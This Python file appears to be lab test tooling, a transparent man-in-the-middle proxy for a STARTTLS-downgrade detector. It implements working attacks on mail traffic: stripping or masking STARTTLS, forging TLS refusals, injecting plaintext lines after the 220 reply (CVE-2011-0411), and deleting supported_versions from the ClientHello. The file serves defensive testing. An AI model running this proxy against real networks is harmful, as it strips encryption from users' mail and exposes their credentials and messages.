#!/usr/bin/env python3
"""Transparent man-in-the-middle proxy for the stripwatch capture lab.

Test tooling, not part of stripwatch. It runs in the lab's middle network
namespace; nftables there REDIRECTs the client's connections to it, it finds
the real destination with SO_ORIGINAL_DST, connects on to it and relays the
bytes, rewriting them per --mode on the connections numbered --first..--last
(1-based, in order of accept). Other connections are relayed untouched.

Modes (all act on the cleartext phase, before TLS, except the last two):
  strip        remove STARTTLS/STLS from capability lists (SMTP EHLO reply,
               IMAP greeting code and CAPABILITY reply, POP3 CAPA reply)
  mask         overwrite STARTTLS in the EHLO reply with XXXXXXXA
  refuse       answer the client's STARTTLS with 454 itself (not forwarded)
  inject-same  append plaintext lines to the server's 220 reply to STARTTLS,
               in the same segment
  inject-split the same lines in a segment of their own right after the 220
  pipeline     append "RSET" after the client's STARTTLS line, in the same
               segment, toward the server (CVE-2011-0411)
  no-versions  delete the supported_versions extension from the ClientHello
  reset-hello  on the ClientHello, reset both connections (RST)
"""
import argparse
import re
import socket
import struct
import sys
import threading

SO_ORIGINAL_DST = 80
INJECTED = b"250-injected.lab.example\r\n250 AUTH PLAIN LOGIN\r\n"
REFUSAL = b"454 4.7.0 TLS not available due to local problem\r\n"
STARTTLS_CMD = re.compile(rb"^(STARTTLS|STLS|\S+ STARTTLS)\r?\n$", re.I)


def log(msg):
	print(f"proxy: {msg}", file=sys.stderr, flush=True)


def original_dst(sock):
	raw = sock.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
	return socket.inet_ntoa(raw[4:8]), struct.unpack("!H", raw[2:4])[0]


def strip_caps(lines):
	"""Remove the STARTTLS/STLS capability from a block of reply lines."""
	out = []
	for line in lines:
		if re.match(rb"^250[- ]STARTTLS\r\n$", line, re.I):
			if line[3:4] == b" " and out and out[-1].startswith(b"250-"):
				out[-1] = b"250 " + out[-1][4:]	# it was the last line
			continue
		if line.upper() == b"STLS\r\n":		# POP3 CAPA entry
			continue
		if b"CAPABILITY" in line.upper():	# IMAP greeting or reply
			line = re.sub(rb" STARTTLS(?=[ \]\r])", b"", line, flags=re.I)
		out.append(line)
	return out


def drop_supported_versions(record):
	"""Return the ClientHello record without extension 0x002b (RFC 8446 4.2.1)."""
	body = record[5:]
	if len(body) < 4 or body[0] != 1:
		return record
	p = 4 + 2 + 32
	p += 1 + body[p]					# session id
	p += 2 + struct.unpack("!H", body[p:p + 2])[0]	# cipher suites
	p += 1 + body[p]					# compression methods
	if p + 2 > len(body):
		return record
	exts, q, end = b"", p + 2, p + 2 + struct.unpack("!H", body[p:p + 2])[0]
	while q + 4 <= end:
		etype, elen = struct.unpack("!HH", body[q:q + 4])
		if etype != 0x002B:
			exts += body[q:q + 4 + elen]
		q += 4 + elen
	hs = body[4:p] + struct.pack("!H", len(exts)) + exts
	hs = b"\x01" + struct.pack("!I", len(hs))[1:] + hs
	return record[:3] + struct.pack("!H", len(hs)) + hs


class Relay:
	def __init__(self, client, number, args):
		self.client = client
		self.number = number
		self.mode = args.mode if args.first <= number <= args.last else "pass"
		self.server = socket.create_connection(original_dst(client))
		for s in (client, self.server):
			s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
		self.tls = False		# a ClientHello went by: relay raw from now on
		self.starttls_sent = False
		self.lock = threading.Lock()
		self.dead = False
		log(f"conn {number} to {original_dst(client)} mode {self.mode}")

	def note(self, msg):
		log(f"conn {self.number}: {msg}")

	def reset(self):
		self.dead = True
		for s in (self.client, self.server):
			s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
			try:
				s.shutdown(socket.SHUT_RD)	# wake the other thread's recv so close is final
			except OSError:
				pass
			s.close()

	def from_client(self, data):
		"""Return what to send to the server for client bytes (whole lines or a TLS record)."""
		if data[:1] == b"\x16" and not self.tls:
			self.tls = True
			if self.mode == "no-versions":
				self.note("removed supported_versions from the ClientHello")
				return drop_supported_versions(data)
			if self.mode == "reset-hello":
				self.note("reset both sides on the ClientHello")
				self.reset()
				return None
			return data
		if self.tls:
			return data
		if STARTTLS_CMD.match(data):
			self.starttls_sent = True
			if self.mode == "refuse":
				self.note("answered STARTTLS with 454")
				self.client.sendall(REFUSAL)
				return b""
			if self.mode == "pipeline":
				self.note("appended RSET after STARTTLS")
				return data + b"RSET\r\n"
		return data

	def from_server(self, lines):
		"""Return the list of segments to send to the client for whole server lines."""
		if self.mode == "strip":
			new = strip_caps(lines)
			if new != lines:
				self.note("stripped STARTTLS from the capabilities")
			return [b"".join(new)]
		if self.mode == "mask":
			new = [l.replace(b"STARTTLS", b"XXXXXXXA") if l.startswith(b"250") else l
			       for l in lines]
			if new != lines:
				self.note("masked STARTTLS as XXXXXXXA")
			return [b"".join(new)]
		if self.mode.startswith("inject") and self.starttls_sent and lines[0].startswith(b"220"):
			self.starttls_sent = False
			self.note(f"injected lines after the 220 ({self.mode})")
			if self.mode == "inject-same":
				return [b"".join(lines) + INJECTED]
			return [b"".join(lines), INJECTED]
		return [b"".join(lines)]

	def pump(self, src, dst, upstream):
		buf = b""
		try:
			while not self.dead:
				data = src.recv(65536)
				if not data:
					break
				buf += data
				if self.tls and not upstream:
					dst.sendall(buf)
					buf = b""
					continue
				if upstream and buf[:1] == b"\x16" and not self.tls:
					if len(buf) < 5 or len(buf) < 5 + struct.unpack("!H", buf[3:5])[0]:
						continue	# wait for the whole ClientHello record
				elif not self.tls:
					cut = buf.rfind(b"\n") + 1
					if cut == 0:
						continue	# wait for a whole line
					data, buf = buf[:cut], buf[cut:]
					if upstream:
						out = [self.from_client(data)]
					else:
						out = self.from_server(data.splitlines(keepends=True))
					for seg in out:
						if seg is None:
							return
						if seg:
							dst.sendall(seg)
					continue
				out = self.from_client(buf) if upstream else buf
				buf = b""
				if out is None:
					return
				dst.sendall(out)
			if not self.dead:
				dst.shutdown(socket.SHUT_WR)
		except OSError:			# reset by a peer: pass the reset on
			if not self.dead:
				self.reset()

	def run(self):
		up = threading.Thread(target=self.pump, args=(self.client, self.server, True))
		up.start()
		self.pump(self.server, self.client, False)
		up.join()
		if not self.dead:
			self.client.close()
			self.server.close()


def main():
	ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
	ap.add_argument("--port", type=int, required=True)
	ap.add_argument("--mode", required=True)
	ap.add_argument("--first", type=int, default=2)
	ap.add_argument("--last", type=int, default=1 << 30)
	args = ap.parse_args()
	lsock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
	lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
	lsock.bind(("0.0.0.0", args.port))
	lsock.listen(16)
	print("ready", flush=True)
	number = 0
	while True:
		conn, _ = lsock.accept()
		number += 1
		try:
			relay = Relay(conn, number, args)
		except OSError as e:
			log(f"conn {number}: upstream connect failed: {e}")
			conn.close()
			continue
		threading.Thread(target=relay.run, daemon=True).start()


if __name__ == "__main__":
	main()
